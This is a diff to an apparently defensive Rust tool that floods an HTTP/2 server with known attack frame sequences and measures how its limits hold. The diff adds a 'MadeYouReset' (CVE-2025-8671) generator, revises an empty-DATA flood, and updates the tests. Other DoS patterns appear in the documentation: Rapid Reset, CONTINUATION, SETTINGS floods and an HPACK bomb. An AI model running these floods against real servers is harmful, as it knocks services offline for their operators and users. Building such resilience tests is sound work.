@@ -17,12 +17,19 @@
 //!   headers without end. hyper's limits (pending resets, header list
 //!   size) close such a connection; it is made again at once, and the
 //!   probe is judged as under the floods above.
+//! - **MadeYouReset** (CVE-2025-8671): each request followed by a
+//!   WINDOW_UPDATE of 0 on its stream, which the server must reset.
 //! - **HTTP/1.1 pipelining flood** (`Frames::Http1`, through the same
 //!   loop): small GETs pipelined without pause, replies read.
 //! - **SETTINGS flood** (CVE-2019-9515; ACKs never read), **empty DATA
 //!   frames** on an open stream (CVE-2019-9518), **HPACK bomb**
 //!   (CVE-2016-6581: one 4 KB dynamic-table entry named 12 000 times a
-//!   block): judged as the floods above.
+//!   block): judged as the floods above. hyper's h2 ends the last two at
+//!   once (a GOAWAY after 100 empty frames; at the first block whose
+//!   header list is too large), so those rows measure that defence and a
+//!   flood of reconnections, not a server that lets the frames through;
+//!   a "closed" count under the SETTINGS flood also counts writes that
+//!   timed out because the server stopped reading.
 //! - **Zero window answering PINGs**: streams opened with an initial
 //!   window of 0 (no response byte may go), on connections that keep
 //!   sending PINGs, which the server answers. They must be closed at the
@@ -108,13 +115,19 @@ pub(super) enum Frames {
     RapidReset,
     /// One HEADERS frame without END_HEADERS, then CONTINUATION frames.
     Continuation,
-    /// A POST's HEADERS (no END_STREAM), then empty DATA frames on it
-    /// (CVE-2019-9518).
+    /// A request left open (HEADERS without END_STREAM), then empty DATA
+    /// frames on it (CVE-2019-9518; h2 answers 100 of them with a GOAWAY,
+    /// and the flood reconnects).
     EmptyData,
     /// On each new stream, a HEADERS block that adds a 4 000-byte header
     /// to the dynamic table and names it 12 000 times (48 MB decoded;
     /// CVE-2016-6581).
     HpackBomb,
+    /// Each request followed by a WINDOW_UPDATE of 0 on its stream, a
+    /// stream error the server answers with RST_STREAM: resets the server
+    /// makes, which a limit on the client's resets does not see
+    /// (CVE-2025-8671, "MadeYouReset").
+    MadeYouReset,
     /// Not HTTP/2: small HTTP/1.1 GETs pipelined (the connection opened
     /// without the preface, with ALPN http/1.1 over TLS).
     Http1,
@@ -152,11 +165,22 @@ impl Frames {
             }
             Frames::EmptyData => {
                 if *stream == 1 {
-                    // `:method POST` (index 3), `:scheme http`, `:path /`.
-                    out.extend(frame(1, 0x4, 1, &[0x83, 0x86, 0x84]));
+                    // A GET of 16 MiB whose request stays open (no
+                    // END_STREAM): its response stalls at the first 64 KiB
+                    // of window, so the stream stays open for the frames.
+                    let mut h = get(1, "/bytes/16777216");
+                    h[4] = 0x4;
+                    out.extend(h);
                     *stream = 3;
                 }
                 out.extend(frame(0, 0, 1, &[]).repeat(BATCH / 9));
+            }
+            Frames::MadeYouReset => {
+                while out.len() < BATCH {
+                    out.extend(get(*stream, "/bytes/16384"));
+                    out.extend(frame(8, 0, *stream, &0u32.to_be_bytes()));
+                    *stream += 2;
+                }
             }
             Frames::Http1 => return target::gets(target::small_path(Target::Http), BATCH / 40),
             Frames::HpackBomb => {
@@ -332,8 +356,14 @@ mod tests {
         assert!(more.iter().all(|&f| f == (9, 0, 1)), "no END_HEADERS, ever");
         let mut stream = 1;
         let empty = walk(&Frames::EmptyData.next(&mut stream));
-        assert_eq!(empty[0], (1, 4, 1), "a POST's HEADERS, its stream open");
+        assert_eq!(empty[0], (1, 4, 1), "a request's HEADERS, its stream open");
         assert!(empty[1..].iter().all(|&f| f == (0, 0, 1)));
+        let mut stream = 1;
+        let f = walk(&Frames::MadeYouReset.next(&mut stream));
+        for (i, pair) in f.chunks(2).enumerate() {
+            let id = 1 + 2 * i as u32;
+            assert_eq!(pair, [(1, 5, id), (8, 0, id)]);
+        }
         let mut stream = 1;
         let bomb = Frames::HpackBomb.next(&mut stream);
         assert_eq!(walk(&bomb), [(1, 5, 1)]);
